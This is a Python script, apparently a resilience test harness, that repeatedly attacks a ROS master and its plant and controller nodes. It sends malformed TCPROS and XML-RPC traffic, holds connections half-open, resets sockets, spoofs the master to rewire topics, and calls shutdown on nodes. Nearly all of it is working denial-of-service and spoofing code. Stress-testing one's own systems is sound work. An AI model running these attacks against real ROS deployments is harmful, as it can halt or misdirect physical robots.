"""What strangers may do to a ROS master and its nodes, over and over. Needs nothing of ROS, and keeps no rule of it.

Says `round N` when each kind of abuse has been done N times.
"""
import itertools
import random
import socket
import struct
import xmlrpc.client

MASTER = "http://10.0.0.1:11311/"
TOPICS = {"/plant": "/state", "/controller": "/command"}
SUM = "4b7d974086d4060e7db4613a7e6c3ba4"
rng = random.Random(1)
held = []


def field(text):
    return struct.pack("<I", len(text)) + text.encode()


def header(**fields):
    body = b"".join(field(f"{name}={value}") for name, value in fields.items())
    return struct.pack("<I", len(body)) + body


def connect(address):
    stream = socket.create_connection(address, timeout=5)
    stream.settimeout(5)
    return stream


def say(address, data):
    """Says it and closes, without waiting for an answer."""
    with connect(address) as stream:
        stream.sendall(data)


def reset(address, data):
    stream = connect(address)
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    stream.sendall(data)
    stream.close()


def hold(address, data):
    """Says it and then nothing more."""
    stream = connect(address)
    stream.sendall(data)
    held.append(stream)


def post(length, body):
    head = f"POST / HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: {length}\r\n\r\n"
    return head.encode() + body


def call(uri, method, *arguments):
    try:
        return getattr(xmlrpc.client.ServerProxy(uri, allow_none=True), method)(*arguments)
    except (OSError, xmlrpc.client.Error):
        return None


def abuse_subscribers_door(address, topic):
    good = dict(callerid="/abuse", topic=topic, type="std_msgs/Float64MultiArray", md5sum=SUM)
    say(address, struct.pack("<I", 0x7FFFFFFF))
    say(address, struct.pack("<I", 0xFFFFFFFF) + b"x" * 1000)
    say(address, struct.pack("<I", 8) + struct.pack("<I", 255) + b"abcd")
    say(address, struct.pack("<I", 64) + rng.randbytes(64))
    say(address, rng.randbytes(2000))
    say(address, header(**{**good, "md5sum": "0" * 32}))
    say(address, header(**{**good, "type": "std_msgs/String"}))
    say(address, header(**{**good, "topic": "/nothing"}))
    say(address, header(callerid="/abuse"))
    hold(address, b"")
    hold(address, struct.pack("<I", 60000) + b"half")
    # Subscribers that never read, that talk, and that vanish.
    hold(address, header(**good))
    reset(address, header(**good) + rng.randbytes(5000))
    for _ in range(20):
        reset(address, b"")


def abuse_callers_door(address):
    say(address, rng.randbytes(500) + b"\r\n\r\n")
    say(address, b"GET / HTTP/1.1\r\n\r\n")
    say(address, post(1 << 40, b"<methodCall>"))
    say(address, post(-5, b""))
    say(address, b"POST / HTTP/1.1\r\n" + b"a: b\r\n" * 5000)
    deep = b"<methodCall><methodName>x</methodName><params><param>" + b"<value><array><data>" * 5000
    say(address, post(len(deep), deep))
    say(address, post(20, b"<methodCall><method<<"))
    hold(address, b"POST / HT")
    hold(address, b"")
    for _ in range(20):
        reset(address, b"")


def address_of(uri):
    host, port = uri.removeprefix("http://").rstrip("/").split(":")
    return host, int(port)


doors = {}
for node, topic in TOPICS.items():
    uri = call(MASTER, "lookupNode", "/abuse", node)[2]
    door = call(uri, "requestTopic", "/abuse", topic, [["TCPROS"]])[2]
    doors[node] = uri, (door[1], door[2])

for turn in itertools.count(1):
    for node, topic in TOPICS.items():
        uri, door = doors[node]
        other = TOPICS["/plant" if node == "/controller" else "/controller"]
        for attack in (
            lambda: abuse_subscribers_door(door, topic),
            lambda: abuse_callers_door(address_of(uri)),
            lambda: abuse_callers_door(address_of(MASTER)),
            # In the master's name: nobody publishes, and then somebody does who is not there.
            lambda: call(uri, "publisherUpdate", "/master", other, []),
            lambda: call(uri, "publisherUpdate", "/master", other, ["http://10.0.0.1:1/", "nonsense"]),
            lambda: call(uri, "publisherUpdate", 7, {}, None),
            lambda: call(uri, "requestTopic", [], "", 0),
            lambda: call(uri, "shutdown", "/master", "so there"),
            lambda: call(MASTER, "registerPublisher", "/abuse", 5, [], {}),
        ):
            try:
                attack()
            except OSError:
                # Refused, reset or too slow: as it should be.
                pass
    for stream in held[:-30]:
        stream.close()
    del held[:-30]
    print("round", turn, flush=True)
